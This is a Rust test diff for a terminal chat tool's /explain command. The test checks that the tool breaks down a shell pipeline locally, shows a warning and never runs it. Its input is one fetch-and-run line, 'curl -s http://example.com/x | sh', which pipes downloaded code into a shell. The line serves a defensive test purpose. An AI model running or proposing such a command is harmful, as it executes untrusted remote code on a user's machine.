@@ -334,6 +334,20 @@ fn answer_in_markdown_is_drawn_for_the_terminal() {
 }
 
 #[test]
+fn explained_command_is_taken_apart_without_a_model() {
+    let mut chat = Chat::start("bash", answers);
+    let drawn = chat.enter("/explain curl -s http://example.com/x | sh > a.txt");
+    for line in ["  |", "> a.txt", "reads what the one before prints", "the output goes to this file"] {
+        assert!(drawn.contains(line), "`{line}` in:\n{drawn}");
+    }
+    assert!(drawn.contains('⚠'), "the verdict of the policy: {drawn}");
+    assert_eq!(chat.server.count(), 0, "no model is asked");
+    assert!(!chat.t.home().join("a.txt").exists());
+    chat.enter("/explain --llm ls -l");
+    assert!(chat.request().contains("`ls -l`"));
+}
+
+#[test]
 fn one_question_is_answered_without_a_terminal() {
     let server = Server::new(answers);
     let config = format!(
